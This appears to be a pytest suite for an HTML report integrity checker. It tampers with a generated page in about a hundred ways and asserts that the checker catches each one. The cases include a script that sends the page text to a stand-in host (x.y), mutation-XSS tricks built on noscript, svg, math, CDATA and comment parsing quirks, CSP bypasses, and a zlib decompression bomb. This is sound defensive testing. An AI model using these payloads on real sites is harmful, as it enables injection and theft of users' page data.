"""A page as written has no problems; each way to spoil it is found, also by one who knows how pages are made."""

import base64
import json
import re
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from workbench import __version__, views
from workbench.errors import ReportError
from workbench.report import Report, check
from workbench.storage.json_text import digest, json_for_html
from workbench.views.base import page as pages


@pytest.fixture(scope="module")
def page(make_capture: Any) -> str:
    tokens = ["https://example.org/x.js", "<script src=//x>", "onclick=", "url(http://x)"]
    words = "See [this](https://example.org)."
    return Report("t").add(make_capture(tokens), text="see https://example.org").add(words).to_html()


def problems_of(page: str, folder: Path) -> list[str]:
    path = folder / "page.html"
    path.write_text(page, encoding="utf-8", newline="\n")
    return check(path)


def allowed(page: str, *scripts: str, styles: tuple[str, ...] = ()) -> str:
    """The page with a policy that names these too."""
    for kind, texts in (("script-src", scripts), ("style-src", styles)):
        for text in texts:
            page = page.replace(f"{kind} ", f"{kind} '{digest(text)}' ", 1)
    return page


def sealed(page: str) -> str:
    """The page with the digest of itself made to fit, as one who knows how it is made would do."""
    said = re.search(r'name="digest" content="([^"]*)"', page)
    assert said
    bare = page.replace(said[1], "", 1)
    return page.replace(said[1], pages.seal(bare), 1)


def test_a_page_with_addresses_in_its_text_is_fine(page: str, tmp_path: Path) -> None:
    assert problems_of(page, tmp_path) == []
    assert sealed(page) == page


def test_a_page_of_one_view_is_fine(tmp_path: Path) -> None:
    view = views.token_strip([" a", "b"], [0.5, 1.0])
    assert check(view.to_html(tmp_path / "view.html")) == []


EVIL = "location.href = 'https://x.y/?' + encodeURIComponent(document.body.innerText);"
SCRIPT = f"<script>{EVIL}</script>"
HIDDEN = f"</noscript>{SCRIPT}"
TITLED = f"</title>{SCRIPT}"


def inserted(what: str, before: str = "</main>", **named: Any) -> Callable[[str], str]:
    return lambda page: allowed(page.replace(before, what + before, 1), *named.get("scripts", ()),
                                styles=named.get("styles", ()))  # fmt: skip


def replaced(old: str, new: str) -> Callable[[str], str]:
    return lambda page: page.replace(old, new, 1)


def policy_moved(page: str) -> str:
    policy = re.search(r'<meta http-equiv="Content-Security-Policy"[^>]*>\n', page)
    assert policy
    return page.replace(policy[0], "", 1).replace("<body>\n", f"<body>\n{policy[0]}", 1)


REFRESH = 'http-equiv="refresh" content="0;url=https://x.y/"'
CASES: dict[str, Callable[[str], str]] = {
    # What a page of ours never holds.
    "script": replaced("const modules", "const modules2"),
    "style": replaced("--paper: #ffffff", "--paper: #fffffe"),
    "added script": inserted(SCRIPT),
    "added script that the policy names": inserted(SCRIPT, scripts=(EVIL,)),
    "outside script": inserted("<script src='https://x.y/z.js'></script>"),
    "module": inserted(f"<script type=module>{EVIL}</script>", scripts=(EVIL,)),
    "import map": inserted('<script type=importmap>{"imports":{"a":"https://x.y/"}}</script>'),
    "speculation rules": inserted(
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://x.y/"]}]}</script>'
    ),
    "outside image": inserted("<img src='//x.y/z.png'>"),
    "image by srcset": inserted("<img srcset='https://x.y/z.png 1x'>"),
    "picture of a video": inserted("<video poster='https://x.y/z.png'></video>"),
    "sound": inserted("<audio autoplay src='https://x.y/z.wav'></audio>"),
    "track": inserted("<video><track src='https://x.y/z.vtt' default></video>"),
    "outside style": inserted("<link rel=stylesheet href=style.css>", "</head>"),
    "preload": inserted("<link rel=preload as=image href='https://x.y/z'>", "</head>"),
    "prefetch": inserted("<link rel=prefetch href='https://x.y/z'>", "</head>"),
    "name lookup": inserted("<link rel=dns-prefetch href='//x.y'>", "</head>"),
    "connection": inserted("<link rel=preconnect href='https://x.y'>", "</head>"),
    "icon": inserted("<link rel=icon href='https://x.y/z.ico'>", "</head>"),
    "manifest": inserted("<link rel=manifest href='https://x.y/z'>", "</head>"),
    "styles that import": inserted(
        "<style>@import 'https://x.y/z.css';</style>", styles=("@import 'https://x.y/z.css';",)
    ),
    "styles with a url of escapes": inserted("<style>p{background:u\\72l(//x.y)}</style>"),
    "font": inserted("<style>@font-face{font-family:a;src:url(//x.y/z)}</style>"),
    "ping": inserted("<a href='#a' ping='https://x.y/'>x</a>"),
    "handler": replaced("<main>", "<main onclick='x()'>"),
    "handler with a slash": inserted("<svg/onload=x()>"),
    "style attribute": replaced("<main>", "<main style='color:red'>"),
    "link that runs": inserted("<a href='javascript:x()'>x</a>"),
    "link that runs, with a tab in it": inserted("<a href='java\tscript:x()'>x</a>"),
    "link to data": inserted("<a href='data:text/html,<script>1</script>'>x</a>"),
    "link": inserted("<a href='https://x.y/'>Figure 1</a>"),
    "frame": inserted("<iframe></iframe>"),
    "frame of its own text": inserted("<iframe srcdoc='<script>1</script>'></iframe>"),
    "object": inserted("<object data='https://x.y/'></object>"),
    "embedded": inserted("<embed src='https://x.y/'>"),
    "portal": inserted("<portal src='https://x.y/'></portal>"),
    "form": inserted("<form action='https://x.y/'><button>Theme</button></form>"),
    "button with an address of its own": inserted("<button form=f formaction='https://x.y/'>Theme</button>"),
    "picture as a button": inserted("<input type=image src='https://x.y/'>"),
    # Where browsers and parsers disagree.
    "refresh": inserted(f"<meta {REFRESH}>", "<title>"),
    "refresh with a name": inserted(f'<meta name="x" {REFRESH}>', "<title>"),
    "refresh in an attribute given twice": inserted(f'<meta {REFRESH} http-equiv="x">', "<title>"),
    "policy in an attribute given twice": replaced(
        '<meta http-equiv="Content', '<meta http-equiv="x" http-equiv="Content'
    ),
    "another base": inserted("<base href='https://x.y/'>", "<title>"),
    "policy in the body": policy_moved,
    "policy after a script": lambda p: allowed(p.replace("<head>", f"<head>{SCRIPT}", 1), EVIL),
    "policy in a template": lambda p: p.replace('<meta http-equiv="Content', '<template><meta http-equiv="Content', 1),
    "policy in a comment": lambda p: p.replace('<meta http-equiv="Content', '<!-- <meta http-equiv="Content', 1),
    "policy in noscript": inserted("<noscript>", '<meta http-equiv="Content'),
    "no policy": replaced("Content-Security-Policy", "X"),
    "policy that only reports": replaced("Content-Security-Policy", "Content-Security-Policy-Report-Only"),
    "loose policy": replaced("default-src 'none';", "default-src 'none'; font-src https:;"),
    "connecting": replaced("default-src 'none';", "default-src 'none'; connect-src data:;"),
    "everything": replaced("default-src 'none';", "default-src *;"),
    "directive given twice": replaced("default-src 'none';", "default-src *; default-src 'none';"),
    "unsafe policy": replaced("style-src '", "style-src 'unsafe-inline' '"),
    "no forms": replaced("; form-action 'none'", ""),
    "comment that ends at once": inserted(f"<!-->{SCRIPT}-->", scripts=(EVIL,)),
    "comment that ends after a dash": inserted(f"<!--->{SCRIPT}-->", scripts=(EVIL,)),
    "comment that ends with a bang": inserted(f"<!-- --!>{SCRIPT}-->", scripts=(EVIL,)),
    "comment in a comment": inserted(f"<!--<!--{SCRIPT}-->", scripts=(EVIL,)),
    "comment that does not end": inserted("<!--"),
    "declaration": inserted(f"<!x >{SCRIPT}>", scripts=(EVIL,)),
    "instruction": inserted(f"<?x >{SCRIPT}?>", scripts=(EVIL,)),
    "end tag that is a comment": inserted(f"</ >{SCRIPT}", scripts=(EVIL,)),
    "characters as they are": inserted(f"<![CDATA[>{SCRIPT}]]>", scripts=(EVIL,)),
    "characters as they are, in a drawing": inserted(f"<svg><![CDATA[</svg>{SCRIPT}]]></svg>", scripts=(EVIL,)),
    "noscript hides a style": inserted(
        f"<noscript><style>{HIDDEN}</style></noscript>", scripts=(EVIL,), styles=(HIDDEN,)
    ),
    "noscript hides an attribute": inserted(f'<noscript><p title="{HIDDEN}"></noscript>', scripts=(EVIL,)),
    "title hides a style": inserted(f"<title><style>{TITLED}</style></title>", scripts=(EVIL,), styles=(TITLED,)),
    "textarea": inserted(f'<textarea><p title="</textarea>{SCRIPT}"></textarea>', scripts=(EVIL,)),
    "xmp": inserted(f'<xmp><p title="</xmp>{SCRIPT}"></xmp>', scripts=(EVIL,)),
    "plain text": inserted("<plaintext>"),
    "template": inserted(f"<template>{SCRIPT}</template>", scripts=(EVIL,)),
    "template with a shadow": inserted(
        f"<div><template shadowrootmode=open>{SCRIPT}</template></div>", scripts=(EVIL,)
    ),
    "select": inserted(f"<select><style></select>{SCRIPT}</style>", scripts=(EVIL,)),
    "table": inserted(f"<table><style></table>{SCRIPT}</style>", scripts=(EVIL,)),
    "formula": inserted(
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{SCRIPT}'>", scripts=(EVIL,)
    ),
    "formula with HTML": inserted(
        f"<math><annotation-xml encoding='text/html'><style><img title='</style>{SCRIPT}'></annotation-xml></math>",
        scripts=(EVIL,),
    ),
    "drawing": inserted(f"<svg><style><a title='</style>{SCRIPT}'></svg>", scripts=(EVIL,)),
    "drawing with HTML": inserted(f"<svg><foreignObject>{SCRIPT}</foreignObject></svg>", scripts=(EVIL,)),
    "drawing that uses another": inserted("<svg><use href='https://x.y/z.svg#a'/></svg>"),
    "drawing that changes a link": inserted(
        "<svg><a><animate attributeName=href values='javascript:x()'/><text>x</text></a></svg>"
    ),
    "picture in a drawing": inserted("<svg><image xlink:href='https://x.y/z.png'/></svg>"),
    "script of a drawing": inserted("<svg><script href='https://x.y/z.js'/></svg>"),
    "blank in an end tag": inserted(f"<script>{EVIL}</script \t\n x>", scripts=(EVIL,)),
    "capitals": inserted(f"<SCRIPT>{EVIL}</sCrIpT>", scripts=(EVIL,)),
    "data of a type with a parameter": inserted(f'<script type="application/json;x">{EVIL}</script>', scripts=(EVIL,)),
    "data that are a script": replaced('<script type="application/json"', "<script"),
    "data block that closes early": inserted(f"<!--<script>-->{SCRIPT}", "<script type", scripts=(EVIL,)),
    # Before, after, and in other characters.
    "something before": lambda p: f"<p>{p}",
    "blank before": lambda p: f"\n{p}",
    "byte order mark": lambda p: f"\ufeff{p}",
    "something after": lambda p: p + SCRIPT,
    "blank after": lambda p: p + "\n",
    "two pages": lambda p: p + p,
    "zero byte": replaced("<main", "<\0main"),
    "zero byte in a tag": inserted(f"<scr\0ipt>{EVIL}</script>"),
    "form feed": replaced('<meta charset="utf-8">', '<meta\fcharset="utf-8">'),
    "carriage returns": lambda p: p.replace("\n", "\r\n"),
    "another character set": replaced('charset="utf-8"', 'charset="utf-7"'),
    "character set of Japan": replaced('charset="utf-8"', 'charset="iso-2022-jp"'),
    "quirks": replaced("<!doctype html>", ""),
    "XHTML": replaced('<html lang="en">', '<html lang="en" xmlns="http://www.w3.org/1999/xhtml" manifest="x">'),
    # What the package would have written otherwise.
    "words": replaced("<h2", "<h2 hidden"),
    "a word": replaced("Everything on this page is in this file", "Everything on this page is true"),
    "a number of the table": lambda p: re.sub(r"<td>(\d)", lambda m: f"<td>{9 - int(m[1])}", p, count=1),
    "no digest": replaced('name="digest"', 'name="x"'),
    "cut short": lambda p: p[: len(p) // 2],
    "the last letter": lambda p: p[:-1],
    "another page": lambda p: "<!doctype html><html><p>Hello</html>",
    "nothing": lambda p: "",
    "another version": replaced(f"attention-workbench {__version__}", "attention-workbench 0.0.9"),
    "another version with a script": lambda p: inserted(SCRIPT, scripts=(EVIL,))(
        p.replace(f"attention-workbench {__version__}", "attention-workbench 0.0.9")
    ),
    "another package": replaced("attention-workbench", "x"),
    "a block gone": replaced('id="view-0"', 'id="view-7"'),
    "a block twice": lambda p: re.sub(
        r'(<script type="application/json" id="view-0".*?</script>\n)', r"\1\1", p, count=1
    ),
    "broken data": replaced('{"version"', '{version"'),
}


@pytest.mark.parametrize("spoil", CASES.values(), ids=CASES)
def test_what_is_spoiled_is_found(page: str, tmp_path: Path, spoil: Callable[[str], str]) -> None:
    spoiled = spoil(page)
    assert spoiled != page
    assert problems_of(spoiled, tmp_path)
    if re.search(r'name="digest" content="([^"]+)"', spoiled):
        assert problems_of(sealed(spoiled), tmp_path)


def test_a_change_says_where_it_is(page: str, tmp_path: Path) -> None:
    spoiled = page.replace("<h1>", "<h1><img src=x>", 1)
    line = page[: page.index("<h1>")].count("\n") + 1
    first, second = problems_of(spoiled, tmp_path)
    assert f"line {line} is not what this version makes of the data" in first
    assert "<h1><img src=x>" in first
    assert second == "the page was changed after it was written"
    assert "made so" in problems_of(sealed(spoiled), tmp_path)[1]


def blocks_of(page: str) -> list[tuple[str, str]]:
    return re.findall(r'<script type="application/json" id="([\w-]+)"[^>]*>(.*?)</script>', page, re.DOTALL)


def with_block(page: str, name: str, text: str) -> str:
    """The page with another data block, its digest and the page's made to fit."""
    old = re.search(rf'id="{name}" data-digest="[^"]*">[^<]*<', page)
    assert old
    return sealed(page.replace(old[0], f'id="{name}" data-digest="{digest(text)}">{text}<', 1))


def test_a_change_in_any_block_is_found(page: str, tmp_path: Path) -> None:
    """Even by one who makes the digest of the page fit again; one of the block too is a page's own where nothing else
    says what the data do."""
    assert {name for name, _ in blocks_of(page)} >= {"view-0", "words", "provenance"}
    for name, text in blocks_of(page):
        at = max(i for i, letter in enumerate(text) if letter.isdigit())
        changed = text[:at] + ("1" if text[at] != "1" else "2") + text[at + 1 :]
        spoiled = page.replace(text, changed, 1)
        assert f"the data block {name} was changed after the page was written" in problems_of(sealed(spoiled), tmp_path)
        assert "the page was changed after it was written" in problems_of(spoiled, tmp_path)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "not JSON"),
        ("[" * 100_000, "nested"),
        ('{"a":' * 100_000 + "1" + "}" * 100_000, "nested"),
        ("9" * 5000, "not JSON"),
        ("[]", "not those of a page"),
        ("null", "not those of a page"),
        ('{"version": 1}', "not written as this package writes JSON"),
        ('{"version":1,"version":1}', "not JSON"),
        ("NaN", "not written as"),
        ("1e400", "not written as"),
        ('"\\ud800"', "not those of a page"),
        ("{}", "not those of a page"),
    ],
)
def test_data_of_any_kind_are_no_crash(page: str, tmp_path: Path, text: str, said: str) -> None:
    for name, _ in blocks_of(page):
        problems = problems_of(with_block(page, name, text), tmp_path)
        assert any(said in problem for problem in problems) or (name == "provenance" and problems), (name, problems)


def test_any_value_of_any_kind_in_the_data_is_no_crash(page: str, tmp_path: Path) -> None:
    """One value at a time; what is still a page of ours may pass, and then is what the package makes of it."""

    def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
        inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
        return [path, *(place for key, item in inner for place in places(item, (*path, key)))]

    nasty = [None, True, -1, 2**70, 1e300, "", "x<script>\u202e", [], {}, [[]], {"a": 1}]
    for name, text in blocks_of(page):
        value = json.loads(text)
        chosen = places(value)[1:]
        for i, place in enumerate(chosen[:: max(1, len(chosen) // 25)]):
            changed = json.loads(text)
            owner = changed
            for key in place[:-1]:
                owner = owner[key]
            owner[place[-1]] = nasty[i % len(nasty)]
            spoiled = with_block(page, name, json_for_html(changed))
            if problems_of(spoiled, tmp_path) == []:
                assert "<script>\u202e" not in spoiled


def test_what_is_deflated_is_not_inflated_beyond_what_is_shown(tmp_path: Path) -> None:
    page = str(views.token_strip([" a", "b"], [0.5, 1.0]).to_html())
    spec = json.loads(dict(blocks_of(page))["view-0"])
    (name,) = [name for name in spec["blocks"] if name.startswith("table:")][:1]
    bomb = base64.b64encode(zlib.compress(bytes(200_000_000), 9)).decode()
    spec["blocks"][name] = {"dtype": "f8", "shape": [25_000_000], "deflate": True, "base64": bomb}
    assert problems_of(with_block(page, "view-0", json_for_html(spec)), tmp_path)


@pytest.mark.parametrize(
    "text",
    ["<a " * 20_000, "<!--" * 20_000, "</" * 20_000, "&#" * 20_000, "<a x='" * 20_000, "<![CDATA[" * 20_000,
     '<script type="application/json" id="' * 20_000, "\n</main>\n" * 20_000, 'url("' + " " * 50_000],
    ids=lambda text: text[:12],
)  # fmt: skip
def test_long_nonsense_is_read_once(text: str, tmp_path: Path) -> None:
    assert problems_of(f"<!doctype html><html><head>{text}", tmp_path)
    assert problems_of(f"<!doctype html>\n</main>\n{text}</html>", tmp_path)


def test_size_and_encoding(page: str, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8", newline="\n")
    assert check(path, limit_bytes=1000) == [f"the file has {path.stat().st_size:,} bytes, the limit is 1,000"]
    path.write_bytes(b"\xff\xfe\x00")
    assert check(path) == ["the file is not UTF-8: byte 0"]


def test_a_missing_file_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="there is no file"):
        check(tmp_path / "none.html")


def test_the_blocks_are_json(page: str) -> None:
    blocks = re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.DOTALL)
    assert [json.loads(text) for text in blocks]
